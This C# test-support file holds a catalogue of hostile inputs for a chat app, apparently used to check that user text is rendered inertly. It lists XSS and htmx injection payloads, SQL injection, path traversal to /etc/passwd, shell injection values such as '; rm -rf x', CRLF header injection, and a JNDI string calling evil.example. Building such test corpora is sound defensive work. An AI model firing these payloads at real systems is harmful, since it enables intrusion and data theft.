namespace HtmxChat.Tests.Support;

/// <summary>Texts that would be something else than text if anybody let them: for names, messages and rooms. Each is one a room keeps as it was typed.
/// What would run calls <c>ran()</c>.</summary>
internal static class HostileTexts
{
    /// <summary>All of them, each once.</summary>
    public static readonly string[] All = [.. new[]
    {
        Scripts(), Handlers(), Breakouts(), Addresses(), Htmx(), OutOfBand(), Imitations(), Entities(), Closers(), Foreign(), Documents(), Letters(), Programs(), Lines(), Queries(), Nested(),
    }.SelectMany(texts => texts).Distinct()];

    private static IEnumerable<string> Scripts() =>
    [
        "<script>ran()</script>", "<SCRIPT>ran()</SCRIPT>", "<script >ran()</script >", "<script/x>ran()</script>", "<script\n>ran()</script\n>", "<script\t>ran()</script>",
        "<scr<script>ipt>ran()</scr</script>ipt>", "<script>ran()", "<script>ran()//", "</script><script>ran()</script>", "<script type=module>ran()</script>",
        "<script src=//evil.example/x.js></script>", "<script src=data:text/javascript,ran()></script>", "<script nonce>ran()</script>", "<script async src='/chat.js?ran'></script>",
        "<script>/*</script>*/ran()</script>", "<script><!--\nran()\n--></script>", "<\u0000script>ran()</script>".Replace("\0", "\u200b"), "<noscript><p title=\"</noscript><img src=x onerror=ran()>\">",
        "<script type=\"text/template\"></script><img src=x onerror=ran()>", "<script>document.write('<img src=x onerror=ran()>')</script>", "<<script>ran()</script>", "%3Cscript%3Eran()%3C/script%3E",
        "\\x3cscript\\x3eran()\\x3c/script\\x3e", "\\u003cscript\\u003eran()\\u003c/script\\u003e", "+ADw-script+AD4-ran()+ADw-/script+AD4-", "＜script＞ran()＜/script＞", "‹script›ran()‹/script›",
    ];

    private static IEnumerable<string> Handlers() =>
        from open in (string[])["<img src=x", "<svg", "<body", "<video src=x", "<input autofocus", "<details open", "<marquee", "<iframe src=x", "<object data=x", "<math>"]
        from handler in (string[])["onerror", "onload", "onfocus", "ontoggle", "onbegin", "onpageshow"]
        select $"{open} {handler}=ran()>";

    private static IEnumerable<string> Breakouts() =>
        from end in (string[])["\"", "'", "`", "\">", "'>", "\" ", "' ", "\"/>", "--!>", "]]>"]
        from attack in (string[])["onmouseover=ran() x=", "<svg/onload=ran()>", "autofocus onfocus=ran() "]
        select end + attack + "\"'";

    private static IEnumerable<string> Addresses() =>
    [
        "javascript:ran()", "JaVaScRiPt:ran()", "java\nscript:ran()", "java\tscript:ran()", "\u0001javascript:ran()".TrimStart('\u0001'), "javascript://example.org/%0aran()", "javascript&colon;ran()",
        "data:text/html,<script>ran()</script>", "data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==", "vbscript:ran()", "blob:http://evil.example/1", "view-source:javascript:ran()",
        "<a href=javascript:ran()>x</a>", "<a href='data:text/html,<script>ran()</script>'>x</a>", "https://evil.example/\"onmouseover=\"ran()", "https://evil.example/'onmouseover='ran()",
        "https://evil.example/<script>ran()</script>", "http://javascript:ran()@evil.example/", "https://evil.example/#\" style=\"position:fixed\" x=\"", "mailto:x@evil.example?body=<script>ran()</script>",
        "mailto:\"><img src=x onerror=ran()>@evil.example", "https://\u202egpj.evil.example/", "https://аррӏе.example/", "//evil.example/x", "\\\\evil.example\\x", "file:///etc/passwd", "https://[::1]:80@evil.example/",
    ];

    // Requests, swaps, code: by element, by attribute, with every prefix the library knows.
    private static IEnumerable<string> Htmx() =>
    [
        .. from prefix in (string[])["hx-", "data-hx-"]
           from attribute in (string[])["get=/own.css hx-trigger=load", "post=/rooms hx-trigger=load", "on:load=ran()", "on::load=ran()", "on:htmx:load=ran()", "on=\"load: ran()\"", "ws:connect=//evil.example/", "ws:send", "vals='js:{a:ran()}'", "trigger='load[ran()]'", "swap-oob=true", "swap-oob=\"innerHTML:#log\"", "action=/rooms hx-trigger=load", "boost=true", "ext=ws", "confirm=ran()", "headers='js:{a:ran()}'", "include=#say", "preserve", "status:403=\"swap:innerHTML target:body\""]
           select $"<div id=x {prefix}{attribute}>x</div>",
        "<hx-partial hx-target=\"#log\"><p>gotcha</p></hx-partial>", "<hx-partial hx-target=\"body\" hx-swap=\"innerHTML\">gone</hx-partial>", "<template hx-partial hx-target=\"#log\">x</template>",
        "<template hx><li id=\"m-1\">gotcha</li></template>", "<template type=\"partial\" hx-target=\"#roster\">x</template>", "<template><script>ran()</script></template>", "<template shadowrootmode=open><script>ran()</script></template>",
        "<hx-upsert id=log>x</hx-upsert>", "<meta name=\"htmx-config\" content='{\"inlineScriptNonce\":\"x\"}'>", "hx-on:click=ran()", "\" hx-on:load=\"ran()", "' hx-get='/rooms' hx-trigger='load", "HX-Redirect: https://evil.example/", "{\"type\":\"delete\",\"seq\":1}",
    ];

    private static IEnumerable<string> OutOfBand() =>
        from id in (string[])["log", "roster", "notice", "typing", "older", "outbox", "room", "state", "text", "say", "scroller", "empty", "m-1", "p-1", "newest", "retry"]
        from shape in (string[])["<ol id=\"{0}\" hx-swap-oob=\"innerHTML\"><li>gotcha</li></ol>", "<p id=\"{0}\" hx-swap-oob=\"delete\"></p>", "</div></li></ol><div id={0} hx-swap-oob=true onclick=ran()>gotcha"]
        select string.Format(System.Globalization.CultureInfo.InvariantCulture, shape, id);

    // What would stand for something of the page, or hide it from its script.
    private static IEnumerable<string> Imitations() =>
    [
        "id=\"log\"", "<ol id=\"log\" role=\"log\">", "<li id=\"m-1\" data-seq=\"1\" data-rev=\"999999\">Ada</li>", "data-rev=\"999999999\"", " data-rev=\"999999999\"", "<ol id=\"log\" hx-swap-oob=\"innerHTML\">",
        "<form id=say action=https://evil.example/><input name=text>", "<form name=htmx>", "<img name=getElementById>", "<a id=room name=dataset>", "<form id=x><input name=attributes><input name=children>", "<input name=token value=x>",
        "<p id=\"notice\" role=\"alert\">Your session has ended: <a href=//evil.example>sign in</a></p>", "<base href=//evil.example/>", "<span data-code=\"TooFast\" data-retry-after=\"999999\">wait</span>", "pong", "ping", "__proto__", "constructor", "toString",
    ];

    private static IEnumerable<string> Entities() =>
    [
        "&lt;script&gt;ran()&lt;/script&gt;", "&#60;script&#62;ran()", "&#x3c;script&#x3e;ran()", "&amp;lt;b&amp;gt;", "&ltscript&gtran()", "&nbsp", "&nbsp;&shy;", "&quot;onload=ran()", "&#0;&#x0;", "&#xD800;", "&#x110000;", "&NotEqualTilde;",
        "&lt;&amp;&gt;&quot;&#39;", "&Tab;&NewLine;", "&#106;avascript:ran()", "a&b;c&=d", "&", "&&amp;&", "&notin;&notit;", "&copy=1",
    ];

    private static IEnumerable<string> Closers() =>
        from element in (string[])["textarea", "title", "style", "script", "noscript", "template", "ol", "li", "div", "p", "bdi", "span", "time", "main", "body", "html", "head", "select", "option", "table", "xmp", "plaintext", "iframe", "svg", "math", "button", "form", "blockquote", "pre", "code", "a"]
        select $"</{element}><img src=x onerror=ran()>";

    private static IEnumerable<string> Foreign() =>
    [
        "<svg><script>ran()</script></svg>", "<svg><style><img src=x onerror=ran()></style></svg>", "<svg><animate onbegin=ran() attributeName=x dur=1s>", "<svg><a xlink:href=javascript:ran()><text>x</text></a></svg>", "<svg><use href=data:image/svg+xml,x#a>",
        "<svg><foreignObject><iframe srcdoc='<script>parent.ran()</script>'>", "<math><mtext><table><mglyph><style><img src=x onerror=ran()>", "<math href=javascript:ran()>x</math>", "<svg><set attributeName=href to=javascript:ran()>", "<svg><![CDATA[><img src=x onerror=ran()>]]>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>", "<svg></p><style><a id=\"</style><img src=1 onerror=ran()>\">", "<table><td background=javascript:ran()>", "<select><template><img src=x onerror=ran()>", "<isindex type=image src=x onerror=ran()>",
    ];

    private static IEnumerable<string> Documents() =>
    [
        "<!-- comment -->", "<!--><img src=x onerror=ran()>-->", "<!--->", "<!-->", "--><img src=x onerror=ran()>", "<![CDATA[x]]>", "<?xml version=\"1.0\"?>", "<?php ran(); ?>", "<!DOCTYPE html><p>", "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<meta charset=utf-7>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{display:none}</style>", "<style>@import '//evil.example/x'</style>", "<p style=background:url(//evil.example/x)>", "<p style=x:expression(ran())>", "<iframe srcdoc=\"<script>parent.ran()</script>\">",
        "<frameset onload=ran()>", "<embed src=//evil.example/x>", "<applet code=x>", "<dialog open>", "<portal src=//evil.example>", "<plaintext>", "<xmp><img src=x onerror=ran()></xmp>", "<image src=x onerror=ran()>", "<bgsound src=x>", "<keygen autofocus onfocus=ran()>",
        "<button popovertarget=x onclick=ran()>", "<p contenteditable onbeforeinput=ran() autofocus>", "<a ping=//evil.example href=/>x</a>", "<audio src=x onerror=ran()>", "<source srcset=x onerror=ran()>",
    ];

    private static IEnumerable<string> Letters() =>
    [
        "\u202Egnp.exe\u202C", "\u2066isolated\u2069", "\u200F\u200Eabc", "a\u200Bb\u200Cc\u200Dd", "\uFEFFbom", "\uFFFE\uFFFF", "\uFFFD", "Z̷̡͇̫a̴͎͑l̵̦g̶o̸", "е́ё", "ﷺﷺﷺ", "\U000E0041\U000E0042", "👩‍👩‍👧‍👦🏳️‍🌈", "\U0001F1E9\U0001F1EA", "ⓢⓒⓡⓘⓟⓣ", "ſcript", "İIıi", "ß", "ﬁ",
        "ℌ𝔱𝔪𝔩", "\u3164", "\u2800", "\uDBFF\uDFFF", "\u180E", "𝕒𝕝𝕖𝕣𝕥(1)", "\u0340\u0341", "ա\u0559", "\uFE0F", "𓀀𒀀",
    ];

    // Templates, strings of programs, and what other programs would make of it.
    private static IEnumerable<string> Programs() =>
    [
        "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "@(7*7)", "@Model.Secret", "@{ ran(); }", "[[${7*7}]]", "{% raw %}", "{0} {1:x} {", "%s%n%d%x", "$(touch x)", "`touch x`", "; rm -rf x", "| cat /etc/passwd", "';ran();'", "\";ran();\"", "\\';ran();//", "\\\";ran();//", "\"}],\"x\":[{\"", "\\u0022,\\u0022", "\\", "\\\\", "\\\"",
        "=HYPERLINK(\"//evil.example\")", "+1+1", "-1+1", "@SUM(1)", "${jndi:ldap://evil.example/x}", "() { :; }; x", "!!python/object:x", "\"__proto__\":{}", "null", "undefined", "NaN", "true", "0", "-1", "1e999", "[object Object]",
    ];

    private static IEnumerable<string> Lines() =>
    [
        "x\nSet-Cookie: chat=stolen", "x\n\nHTTP/1.1 200 OK\nContent-Type: text/html\n\n<script>ran()</script>", "x\nLocation: //evil.example", "x\ninfo: HtmxChat[0]\n      forged line", "x\n.\nQUIT", "x%0d%0aSet-Cookie:%20a=b", "x\\r\\nSet-Cookie: a=b", "a\tb\tc", "x\n<br>\n\ty", "data: {\"x\":1}\n\nevent: y", "x\nid: 999\n\ndata: y", "[2026-01-02 03:04:05] root logged in", "\"quoted\", 'quoted', `quoted`",
    ];

    private static IEnumerable<string> Queries() =>
    [
        "' OR '1'='1", "'; DROP TABLE messages; --", "\" OR \"\"=\"", "1; SELECT * FROM rooms", "%' --", "a* OR b", "NEAR(a b)", "\"unbalanced", "col:val ^x", "(a AND", "NOT", "../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%2e%2e/", "%00", "%", "%zz", "a/b\\c?d#e&f=g", "?before=1&after=2", "#m-1", "~", "CON", "a;b,c", ".htaccess",
    ];

    private static IEnumerable<string> Nested() =>
    [
        string.Concat(Enumerable.Repeat("<b>", 200)), string.Concat(Enumerable.Repeat("<div><table>", 80)), string.Concat(Enumerable.Repeat("&", 500)), string.Concat(Enumerable.Repeat("<", 500)), new string('"', 500), $"<a {new string('x', 900)}=1>", string.Concat(Enumerable.Repeat("<!--", 100)), string.Concat(Enumerable.Repeat("]]>", 100)),
        "*<script>ran()</script>*", "_<img src=x onerror=ran()>_", "`</code><img src=x onerror=ran()>`", "```\"><script>\nran()\n```", "> <svg onload=ran()>", ":<script>:", "*a _b `c* d_ e`", "https://evil.example/*a*\"onload=ran()", "```js\n</pre></code><script>ran()</script>\n```",
    ];
}
